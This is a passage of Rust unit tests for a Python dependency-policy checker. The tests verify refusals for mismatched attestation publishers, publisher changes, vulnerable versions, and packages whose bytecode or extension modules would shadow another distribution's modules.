            "[attestations.packages]\nrequests = {{ repository = \"{repository}\", workflow = \"publish.yml\" }}\n"
        )
    };
    assert_approved(judge(&pin("PSF/requests"), &facts));
    assert_refused(judge(&pin("evil/requests"), &facts), RuleId::Attestations);
    // A pin implies `require`.
    assert_refused(
        judge(
            &pin("psf/requests"),
            &set(vec![package("requests", "2.32.3")]),
        ),
        RuleId::Attestations,
    );
}

#[test]
fn publisher_change_needs_acceptance() {
    let mut changed = package("requests", "2.32.3");
    changed.attestation.status =
        AttestationStatus::Verified(publisher("someone/requests", "release.yml"));
    changed.attestation.locked_publisher = Some(publisher("psf/requests", "publish.yml"));
    assert_refused(
        judge("", &set(vec![changed.clone()])),
        RuleId::AttestationsPublisherChange,
    );
    changed.attestation.publisher_change_accepted = true;
    assert_approved(judge("", &set(vec![changed])));

    let mut same = package("requests", "2.32.3");
    same.attestation.status = AttestationStatus::Verified(publisher("psf/requests", "publish.yml"));
    same.attestation.locked_publisher = Some(publisher("psf/requests", "publish.yml"));
    assert_approved(judge("", &set(vec![same])));

    let mut dropped = package("requests", "2.32.3");
    dropped.attestation.locked_publisher = Some(publisher("psf/requests", "publish.yml"));
    assert_refused(
        judge("", &set(vec![dropped])),
        RuleId::AttestationsPublisherChange,
    );
}

// vulnerabilities

#[test]
fn vulnerabilities_by_severity_and_ignore() {
    let with = |severity: Option<Severity>| {
        let mut dist = package("foo", "1.0");
        dist.vulnerabilities.push(Advisory {
            id: "PYSEC-2024-1".to_string(),
            aliases: vec!["CVE-2024-0001".to_string()],
            severity,
        });
        set(vec![dist])
    };
    assert_refused(
        judge("", &with(Some(Severity::Critical))),
        RuleId::Vulnerabilities,
    );
    assert_approved(judge("", &with(Some(Severity::Medium))));
    assert_refused(
        judge(
            "[vulnerabilities]\nseverity = \"medium\"\n",
            &with(Some(Severity::Medium)),
        ),
        RuleId::Vulnerabilities,
    );
    // No severity stated: fail closed.
    assert_refused(judge("", &with(None)), RuleId::Vulnerabilities);
    assert_approved(judge(
        "[vulnerabilities]\nignore = [\"CVE-2024-0001\"]\n",
        &with(None),
    ));
    assert_approved(judge(
        "[vulnerabilities]\ndeny = false\n",
        &with(Some(Severity::Critical)),
    ));
}

/// Python imports one module per name and directory: bytecode in `__pycache__` (run without a
/// look at the source when compiled with an unchecked hash), an extension module or a
/// sourceless `.pyc` from one distribution replaces another's module without sharing a path.
#[test]
fn another_distributions_module_replaced_by_bytecode_or_an_extension_is_a_shared_file() {
    let site = "lib/python3.12/site-packages";
    let with_file = |project: &str, path: &str| {
        let mut facts = package(project, "1.0");
        facts
            .contents
            .as_mut()
            .unwrap()
            .files
            .push(format!("{site}/{path}"));
        facts
    };
    let clashing = [
        (
            "victim/__init__.py",
            "victim/__pycache__/__init__.cpython-312.pyc",
        ),
        (
            "victim/mod.py",
            "victim/mod.cpython-312-x86_64-linux-gnu.so",
        ),
        ("victim/mod.py", "victim/mod.abi3.so"),
        (
            "victim/mod.py",
            "Victim/__pycache__/MOD.cpython-313.opt-1.pyc",
        ),
        ("top.py", "__pycache__/top.cpython-312.pyc"),
        (
            "victim/mod.cpython-312-x86_64-linux-gnu.so",
            "victim/mod.py",
        ),
    ];
    for (own, planted) in clashing {
        let refusals = assert_refused(
            judge(
                "",
                &set(vec![
                    with_file("victim", own),
                    with_file("planter", planted),
                ]),
            ),
            RuleId::ContentsOverwrite,
        );
        assert!(
            refusals.to_string().contains("the same module"),
            "{refusals}"
        );
        // Against the installed distribution too.
        let mut facts = set(vec![with_file("planter", planted)]);
        facts.installed.push(InstalledDistribution {
            name: name("victim"),
            files: vec![format!("{site}/{own}")],
            scripts: Vec::new(),
        });
        assert_refused(judge("", &facts), RuleId::ContentsOverwrite);
    }
    // A distribution's own bytecode, other modules, and files that are not modules pass.
    let mut own = with_file("victim", "victim/mod.py");
    own.contents
        .as_mut()
        .unwrap()
        .files
        .push(format!("{site}/victim/__pycache__/mod.cpython-312.pyc"));
    for (first, second) in [
        (
            "victim/mod.py",
            "victim/other.cpython-312-x86_64-linux-gnu.so",
        ),
        ("victim/mod.py", "victim/mod.pyi"),
        ("victim/data.txt", "victim/__pycache__/data.txt"),
        ("victim/mod.py", "elsewhere/__pycache__/mod.cpython-312.pyc"),
    ] {
        assert_approved(judge(
            "",
            &set(vec![with_file("alpha", first), with_file("beta", second)]),
        ));
    }
    assert_approved(judge("", &set(vec![own])));
}
